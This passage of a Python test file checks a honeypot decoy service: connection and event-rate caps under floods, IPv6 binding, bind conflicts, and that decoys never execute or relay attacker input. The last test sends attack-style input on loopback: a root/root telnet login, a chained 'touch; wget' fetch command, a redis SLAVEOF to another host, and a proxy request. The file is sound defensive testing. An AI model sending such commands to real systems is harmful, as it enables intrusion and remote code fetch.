        for thread in pushers:
            thread.join(10)

        # 5. many sources together hit the global cap
        for i in range(60, 90):
            held += _connect_many(f"127.0.120.{i}", "127.0.120.40", telnet_port, 8)
        time.sleep(1.0)
        mid = child.ask("STATS")
        assert int(mid["active"]) <= 200  # type: ignore[call-overload]
        for sock in held:
            sock.close()
        held.clear()
        time.sleep(1.0)
        final = child.ask("QUIT")
    finally:
        for sock in held:
            sock.close()
        child.close()

    stats = final["stats"]
    telnet, http, udp_stats = stats[0], stats[1], stats[2]  # type: ignore[index]
    memory = final["memory_kb"]
    assert memory["VmHWM"] - base < 40_000, memory  # type: ignore[index]
    assert telnet["dropped_source"] >= 2900  # the one-source flood, past its 8
    assert telnet["dropped_global"] > 0  # 30 sources x 8 > 200
    assert http["read_cap_hits"] == 6 and http["bytes_in"] <= 6 * 4096
    assert pushed[0] > 6 * 4096  # they did push more than the cap
    assert len(ended_at) == 4 and all(2.5 < t < 6 for t in ended_at), ended_at
    assert telnet["total_timeouts"] >= 4
    counts = final["counts"]
    assert counts.get("decoy.login|127.0.120.53") == 1  # type: ignore[union-attr]
    flood_events = sum(v for k, v in counts.items()  # type: ignore[union-attr]
                       if k.endswith("|127.0.120.50") and not k.startswith("sensor."))
    assert flood_events <= 40 + 20 * 15  # burst + rate x test duration: bounded, not 3000
    reports = [r for r in final["reports"] if r["src"] == "127.0.120.50"]  # type: ignore[union-attr]
    assert reports and sum(int(r["dropped_connections"]) for r in reports) >= 2900
    assert all("per-source-connections" in r["reason"] for r in reports)
    # the connect/close loop: 400 connections, about burst + rate x seconds events, the rest
    # counted in sensor.limit reports (nothing lost silently)
    loop_events = counts.get("decoy.connect|127.0.120.54", 0)  # type: ignore[union-attr]
    assert 40 <= loop_events < 400
    loop_reports = [r for r in final["reports"]  # type: ignore[union-attr]
                    if r["src"] == "127.0.120.54"]
    assert sum(int(r["suppressed_events"]) for r in loop_reports) == 400 - loop_events
    assert all(r["reason"] == "event-rate" for r in loop_reports)
    # the datagram flood: every datagram the kernel delivered was counted, few became events
    datagram_events = counts.get("decoy.udp|127.0.120.55", 0)  # type: ignore[union-attr]
    assert udp_stats["datagrams"] > 100 and udp_stats["replies"] == 0
    assert 40 <= datagram_events <= 40 + 20 * 15
    assert udp_stats["suppressed"] == udp_stats["datagrams"] - datagram_events


def test_ipv6_decoy(farm: DecoyFarm) -> None:
    curl = _need("curl")
    server = farm.start("[::1]:0/tcp=http")
    run = subprocess.run([curl, "-g", "-s", "-m", "5", "-o", "/dev/null", "-w", "%{http_code}",
                          f"http://[::1]:{server.port}/"], capture_output=True, text=True,
                         timeout=10)
    assert run.stdout == "200"
    events = farm.wait(lambda ev: "decoy.data" in types(ev), "::1", server.port)
    assert {e.src for e in events} == {"::1"}
    assert events[0].source == f"decoy:tcp/[::1]:{server.port}"


def test_bind_conflict_raises(farm: DecoyFarm) -> None:
    server = farm.start("127.0.120.16:0/tcp=http")
    with pytest.raises(OSError):
        farm.start(f"127.0.120.16:{server.port}/tcp=http")


def test_decoys_never_run_or_relay(farm: DecoyFarm, tmp_path: Path) -> None:
    # A listener the visitor tries to make the decoys reach (proxy request, SLAVEOF, wget)
    target = socket.socket()
    target.bind(("127.0.120.98", 0))
    target.listen(8)
    target.setblocking(False)
    t_port = target.getsockname()[1]
    marker = tmp_path / "pwned"
    telnet = farm.start("127.0.120.17:0/tcp=telnet")
    redis = farm.start("127.0.120.17:0/tcp=redis")
    http = farm.start("127.0.120.17:0/tcp=http")
    try:
        with socket.create_connection(("127.0.120.17", telnet.port), timeout=5) as sock:
            sock.sendall(b"root\r\nroot\r\n")
            sock.sendall(f"touch {marker}; wget http://127.0.120.98:{t_port}/x\r\n".encode())
            sock.sendall(b"exit\r\n")
            while sock.recv(4096):
                pass
        with socket.create_connection(("127.0.120.17", redis.port), timeout=5) as sock:
            sock.sendall(f"SLAVEOF 127.0.120.98 {t_port}\r\nQUIT\r\n".encode())
            while sock.recv(4096):
                pass
        with socket.create_connection(("127.0.120.17", http.port), timeout=5) as sock:
            sock.sendall(f"GET http://127.0.120.98:{t_port}/ HTTP/1.1\r\nHost: 127.0.120.98"
                         f"\r\n\r\n".encode())
            assert sock.recv(4096).startswith(b"HTTP/1.1 404")
        farm.wait(lambda ev: len([e for e in ev if e.type == EventType.DECOY_COMMAND]) >= 3,
                  "127.0.120.17")
        time.sleep(0.3)
        with pytest.raises(BlockingIOError):
            target.accept()  # nobody ever connected to it
        assert not marker.exists()
    finally:
        target.close()
    commands = [e.fields["command"] for e in farm.matching("127.0.120.17")
                if e.type == EventType.DECOY_COMMAND]
    assert f"touch {marker}; wget http://127.0.120.98:{t_port}/x" in commands
    assert f"SLAVEOF 127.0.120.98 {t_port}" in commands
